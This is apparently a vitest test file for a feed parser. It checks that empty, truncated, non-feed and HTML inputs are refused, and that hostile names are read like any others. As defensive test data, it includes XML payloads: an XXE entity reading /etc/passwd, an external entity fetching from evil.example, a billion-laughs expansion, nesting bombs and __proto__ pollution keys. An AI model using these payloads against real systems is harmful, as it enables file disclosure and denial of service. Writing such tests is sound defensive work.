import { expect, test } from 'vitest';
import { readFeed } from '../../src/feed/read-feed.ts';
import { Refusal } from '../../src/model/refusal.ts';

function refusalOf(text: string, address: string | null = 'https://news.example/a/'): Refusal {
  try {
    readFeed(text, 'all.xml', address);
  } catch (error) {
    if (error instanceof Refusal) return error;
    throw error;
  }
  throw new Error('not refused');
}

const ENTITIES = 'all.xml: the feed declares entities of its own (<!ENTITY …>), which are not read';

test.each([
  ['', 'all.xml: the feed is empty'],
  ['\uFEFF \n', 'all.xml: the feed is empty'],
  ['Two ferries sail each day.', 'all.xml: no feed'],
  ['<opml version="2.0"><body/></opml>', 'all.xml: no feed: it is XML of another kind (<opml>)'],
  [
    '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>',
    'all.xml: no feed: it is XML of another kind (<urlset>)',
  ],
  ['<x:feed xmlns:x="urn:x"/>', 'all.xml: no feed: it is XML of another kind (<feed>)'],
  [
    '<rss version="2.0">\n<channel><title>T</title>\n<item><title>One</title></item>\n<item>\n<title>Tw',
    'all.xml: the feed breaks off: <title> of line 5 is not closed',
  ],
  [
    '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title><![CDATA[One',
    'all.xml: the feed breaks off: <title> of line 1 is not closed',
  ],
  ['<rss version="2.0"><channel>\n</channel></rs', 'all.xml: the feed breaks off: <rss> of line 1 is not closed'],
  ['{"items": [{"id": "1", "ti', 'all.xml: no sound JSON: the feed is damaged, or only a part of it'],
  ['{"version": "2", "data": []}', 'all.xml: JSON, but no JSON Feed: it has no list of items'],
  ['[1, 2]', 'all.xml: JSON, but no JSON Feed: it has no list of items'],
  ['<!DOCTYPE rss [<!ENTITY a "ha">]><rss version="2.0"/>', ENTITIES],
  ['<!DOCTYPE rss [<!ELEMENT rss ANY><!ENTITY a "ha">]><rss version="2.0"/>', ENTITIES],
  [
    '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
    ENTITIES,
  ],
  ['<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]><rss version="2.0"/>', ENTITIES],
  [
    `<!DOCTYPE r [<!ENTITY a "aaaa">${Array.from({ length: 9 }, (_, at) => `<!ENTITY b${at} "&a;&a;&a;&a;">`).join('')}]><rss><channel><title>&b8;</title></channel></rss>`,
    ENTITIES,
  ],
  [`<rss>${'<channel>'.repeat(100_000)}`, 'all.xml: nested too deeply to be a feed'],
  [`<rss>${'<a/>'.repeat(1_000_001)}</rss>`, 'all.xml: more than 1000000 elements, which no feed has'],
])('%.60s', (text, message) => {
  expect(refusalOf(text).message).toBe(message);
});

test('a page in place of a feed names its feeds', () => {
  const page = `<!doctype html><base href="/b/"><link rel="stylesheet" href="x.css">
    <link rel="alternate" hreflang="pl" href="/pl"><link rel=alternate type=application/rss+xml href=rss title=News>
    <link rel="home alternate" type="application/atom+xml; charset=utf-8" href="/atom"><p>Text`;
  const { message, advice } = refusalOf(page);
  expect(message).toBe('all.xml: a web page, no feed');
  expect(advice).toEqual(['It names these feeds: https://news.example/b/rss, https://news.example/atom']);
  expect(refusalOf(page, null).advice).toEqual(['It names these feeds: rss, /atom']);
  expect(refusalOf('<html><body>x').advice).toEqual([
    'It names no feed. To look at the page itself, give it with --page.',
  ]);
});

test('what looks like a page at its start, and what does not', () => {
  const comments = '<!-- a --><?b c?>\n'.repeat(10_000);
  expect(refusalOf(`\uFEFF${comments}<!DOCTYPE html><p>x`).message).toBe('all.xml: a web page, no feed');
  expect(readFeed(`${comments}<rss><channel/></rss>`, 'all.xml', null).entries).toEqual([]);
  expect(refusalOf('<!-- <html>').message).toBe('all.xml: no feed');
});

test('an entity that is declared in a comment or a text is a text', () => {
  const feed = '<!-- <!ENTITY a "b"> --><rss><channel><title><![CDATA[<!ENTITY a "b">]]></title></channel></rss>';
  expect(readFeed(feed, 'all.xml', null).entries).toEqual([]);
});

test('hostile names and namespaces are read like any other', () => {
  const feed = `<rss xmlns:__proto__="urn:x" xmlns:constructor="urn:y"><channel __proto__="a" constructor="b">
    <item toString="c"><__proto__>x</__proto__><constructor>y</constructor><title>One</title></item></channel></rss>`;
  expect(readFeed(feed, 'all.xml', null).entries).toMatchObject([{ title: 'One' }]);
  const json = '{"__proto__": {"items": []}, "items": [{"__proto__": {"title": "x"}, "title": "One"}]}';
  expect(readFeed(json, 'all.xml', null).entries).toMatchObject([{ title: 'One' }]);
});
